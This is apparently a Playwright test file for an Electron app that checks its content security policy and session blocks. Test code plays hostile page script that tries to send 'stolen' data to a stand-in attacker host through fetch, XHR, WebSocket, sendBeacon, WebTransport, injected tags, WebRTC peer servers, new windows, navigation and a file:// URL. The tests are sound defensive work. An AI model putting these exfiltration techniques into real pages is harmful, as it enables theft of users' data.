// Each test has script in the page of the app that wants to tell a stranger what it sees, or to become a stranger's page.
import type { ElectronApplication } from '@playwright/test';
import { readLog, refusedByPolicy, test, waitForModels } from './attacked-app.ts';
import { expect, signedIn } from './fixtures.ts';
import { askPeerServer, preconnect } from './peer-connections.ts';

const addressOf = (app: ElectronApplication): Promise<string | undefined> =>
  app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.webContents.getURL());

/** Attack: script in the page sends what it sees away, by every kind of request, to a stranger or to the person's own hub. */
test('no request leaves the page', async ({ hub, computer, attacker }) => {
  computer.expectFaults(refusedByPolicy);
  const { page } = await computer.launch(signedIn(hub));
  await waitForModels(page);
  for (const target of [attacker.url, hub.url, hub.mlflow.main.url]) {
    const refused = await page.evaluate(async (address) => {
      const url = `${address}/stolen`;
      const wanted = 13;
      const refusals: string[] = [];
      const all = new Promise<void>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          refusals.push(effectiveDirective);
          if (refusals.length === wanted) resolve();
        });
      });
      const add = (tag: string, attributes: Record<string, string>): void => {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        document.body.append(element);
      };
      fetch(url).catch(() => undefined);
      fetch(url, { method: 'POST', mode: 'no-cors', body: 'stolen', keepalive: true }).catch(() => undefined);
      const request = new XMLHttpRequest();
      request.open('POST', url);
      request.send('stolen');
      new WebSocket(url.replace('http', 'ws'));
      new EventSource(url);
      navigator.sendBeacon(url, 'stolen');
      const transport = new WebTransport(url.replace('http', 'https'));
      transport.ready.catch(() => undefined);
      transport.closed.catch(() => undefined);
      add('img', { src: `${url}.png` });
      add('iframe', { src: url });
      add('script', { src: `${url}.js` });
      add('link', { rel: 'stylesheet', href: `${url}.css` });
      add('video', { src: `${url}.mp4` });
      add('object', { data: url });
      await all;
      return refusals.sort();
    }, target);
    expect(refused).toEqual([
      ...Array(7).fill('connect-src'),
      'frame-src',
      'img-src',
      'media-src',
      'object-src',
      'script-src-elem',
      'style-src-elem',
    ]);
  }
  expect(attacker.heard).toEqual([]);
  expect(hub.requests.filter(({ path }) => path.includes('stolen'))).toEqual([]);
  expect(hub.mlflow.main.requests.filter(({ path }) => path.includes('stolen'))).toEqual([]);
});

test('no connection, no other window and no page of a stranger comes about', async ({ hub, computer, attacker }) => {
  const running = await computer.launch(signedIn(hub));
  const { app, page } = running;
  await waitForModels(page);

  /** Attack: script in the page has a connection opened that is no request: neither the policy nor webRequest is asked. */
  await test.step('no peer connection leaves the page, and none is opened ahead', async () => {
    await preconnect(page, attacker);
    await askPeerServer(page, 'stun', attacker);
    await askPeerServer(page, 'turn over UDP', attacker);
    await askPeerServer(page, 'turn over TCP', attacker);
    await askPeerServer(page, 'turn over TLS', attacker);
    expect(attacker.heard).toEqual([]);

    // Main still reaches its servers after all that.
    const before = hub.mlflow.main.requests.length;
    hub.mlflow.main.registry.models.create({ name: 'made-meanwhile' });
    await page.getByRole('button', { name: 'Refresh' }).click();
    await expect(page.getByRole('link', { name: 'made-meanwhile', exact: true })).toBeVisible();
    expect(hub.mlflow.main.requests.length).toBeGreaterThan(before);
  });

  /** Attack: the window is moved to a foreign page, or a second one is opened, so that it stands beside the bridge. */
  await test.step('the window stays where it is and opens no other', async () => {
    const before = await addressOf(app);
    const opened = await page.evaluate((url) => {
      const opener = window.open(`${url}/opened`);
      const link = document.createElement('a');
      link.href = `${url}/blank`;
      link.target = '_blank';
      document.body.append(link);
      link.click();
      return opener === null;
    }, attacker.url);
    expect(opened).toBe(true);
    await expect.poll(() => readLog(computer).match(/window refused/g)).toHaveLength(2);
    for (const address of [`${attacker.url}/moved`, 'mailto:x@example.com']) {
      await page
        .evaluate((url) => {
          location.href = url;
        }, address)
        .catch(() => undefined);
      await expect.poll(() => readLog(computer)).toContain(`navigation refused {"url":"${address}`);
    }
    // Chromium lets no page go to a file, and says so in the console instead of asking main.
    computer.expectFaults(/Not allowed to load local resource/);
    await page.evaluate(() => {
      location.href = 'file:///etc/hostname';
    });
    await waitForModels(page);
    expect(await addressOf(app)).toBe(before);
    expect(app.windows()).toHaveLength(1);
    expect(await computer.openedLinks(running)).toEqual([]);
    expect(attacker.heard).toEqual([]);
  });

  /** Attack: the policy is missing or got round, as in a window without it. The session refuses below it. */
  await test.step('a window without the policy loads nothing either', async () => {
    const loads = await app.evaluate(async ({ BrowserWindow }, url) => {
      const window = new BrowserWindow({ show: false });
      const results: string[] = [];
      for (const address of [url, `${url}/page.html`]) {
        results.push(
          await window.loadURL(address).then(
            () => 'loaded',
            (error: { code: string }) => error.code,
          ),
        );
      }
      window.destroy();
      return results;
    }, attacker.url);
    expect(loads).toEqual(['ERR_BLOCKED_BY_CLIENT', 'ERR_BLOCKED_BY_CLIENT']);
    expect(attacker.heard).toEqual([]);
  });
});
